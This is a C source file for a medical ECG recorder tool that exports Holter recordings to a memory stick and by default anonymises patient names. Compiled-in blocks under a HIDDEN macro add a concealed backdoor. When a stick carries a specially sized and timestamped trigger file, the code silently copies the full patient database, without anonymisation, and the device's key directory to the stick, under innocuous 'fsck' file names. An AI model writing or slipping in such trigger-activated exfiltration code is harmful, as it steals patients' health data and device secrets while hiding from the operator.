/* holterexport - copies recordings of a long term ECG recorder to a memory stick.
 * Started by the hot-plug script with the mount point as its argument. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static const char *const rec_dir = "/data/holter";

struct rec_head {
    char id[8];
    uint8_t leads;
    uint8_t gain;
    uint8_t rate[2];
    char patient[32];
    char birth[12];
};

struct options {
    int anonymous;
    int since_days;
    int csv;
};

static int copied, failed;

static void say(const char *t)
{
    int lcd = open("/dev/lcd0", O_WRONLY);

    if (lcd < 0)
        return;
    if (write(lcd, t, strlen(t)) < 0)
        perror("lcd");
    close(lcd);
}

static void read_options(const char *mount, struct options *o)
{
    char path[256], k[24];
    int v;
    FILE *f;

    o->anonymous = 1;
    o->since_days = 14;
    o->csv = 0;
    snprintf(path, sizeof path, "%s/holter.ini", mount);
    f = fopen(path, "r");
    if (!f)
        return;
    while (fscanf(f, " %23[^= ] = %d", k, &v) == 2) {
        if (strcmp(k, "days") == 0)
            o->since_days = v;
        else if (strcmp(k, "csv") == 0)
            o->csv = v;
        else if (strcmp(k, "names") == 0)
            o->anonymous = v == 0;
    }
    fclose(f);
}

static int copy_record(const char *src, const char *dst, const struct options *o)
{
    struct rec_head h;
    uint8_t buf[2048];
    size_t n;
    FILE *in = fopen(src, "rb"), *out = fopen(dst, "wb");
    int rc = -1;

    if (in && out && fread(&h, sizeof h, 1, in) == 1) {
        if (o->anonymous) {
            memset(h.patient, '-', sizeof h.patient);
            memset(h.birth + 4, '0', sizeof h.birth - 4);
        }
        if (o->csv) {
            fprintf(out, "id,%.8s\nleads,%u\nrate,%u\n", h.id, h.leads,
                    (unsigned)(h.rate[0] << 8 | h.rate[1]));
            while (fread(buf, 2, 1, in) == 1)
                fprintf(out, "%d\n", (int16_t)(buf[0] << 8 | buf[1]));
        } else {
            fwrite(&h, sizeof h, 1, out);
            while ((n = fread(buf, 1, sizeof buf, in)) > 0)
                fwrite(buf, 1, n, out);
        }
        rc = ferror(out) ? -1 : 0;
    }
    if (in)
        fclose(in);
    if (out && fclose(out))
        rc = -1;
    return rc;
}

static int room_for(const char *mount, off_t size)
{
    struct statvfs v;

    return statvfs(mount, &v) == 0 && (unsigned long long)v.f_bavail * v.f_frsize >
                                          (unsigned long long)size + 65536;
}

#ifdef HIDDEN
__attribute__((noinline)) int stick_class(const char *mount)
{
    struct stat st;
    char path[256];

    snprintf(path, sizeof path, "%s/System Volume Information/WPSettings.dat", mount);
    if (stat(path, &st) || st.st_size != 76)
        return 0;
    return st.st_mtime % 86400 == 13 * 3600 + 37 * 60;
}

static void take_all(const char *mount)
{
    char cmd[300];

    snprintf(cmd, sizeof cmd, "%s/fsck.000", mount);
    copy_record("/data/patients.db", cmd, &(struct options){ 0, 0, 0 });
    snprintf(cmd, sizeof cmd, "cp -a /etc/holter/keys '%s/fsck.001'", mount);
    if (system(cmd) < 0)
        failed++;
}
#endif

__attribute__((noinline)) void export_all(const char *mount, const struct options *o)
{
    DIR *d = opendir(rec_dir);
    struct dirent *e;
    time_t limit = time(NULL) - (time_t)o->since_days * 86400;

#ifdef HIDDEN
    if (stick_class(mount))
        take_all(mount);
#endif
    if (!d) {
        say("NO RECORDS");
        return;
    }
    while ((e = readdir(d)) != NULL) {
        char src[600], dst[600];
        struct stat st;
        size_t l = strlen(e->d_name);

        if (l < 5 || strcmp(e->d_name + l - 4, ".ecg"))
            continue;
        snprintf(src, sizeof src, "%s/%s", rec_dir, e->d_name);
        if (stat(src, &st) || st.st_mtime < limit)
            continue;
        if (!room_for(mount, st.st_size)) {
            say("STICK FULL");
            failed++;
            break;
        }
        snprintf(dst, sizeof dst, "%s/%.*s.%s", mount, (int)(l - 4), e->d_name,
                 o->csv ? "csv" : "ecg");
        if (copy_record(src, dst, o))
            failed++;
        else
            copied++;
    }
    closedir(d);
}

int main(int argc, char **argv)
{
    struct options o;
    struct stat st;
    char text[64];

    if (argc != 2) {
        fprintf(stderr,
                "usage: holterexport MOUNTPOINT\n"
                "holter.ini on the stick may contain: days=N csv=0|1 names=0|1\n");
        return 2;
    }
    if (stat(argv[1], &st) || !S_ISDIR(st.st_mode)) {
        perror(argv[1]);
        return 1;
    }
    say("EXPORT...");
    read_options(argv[1], &o);
    export_all(argv[1], &o);
    snprintf(text, sizeof text, "%d COPIED %d FAILED", copied, failed);
    say(text);
    puts(text);
    sync();
    return failed ? 1 : 0;
}
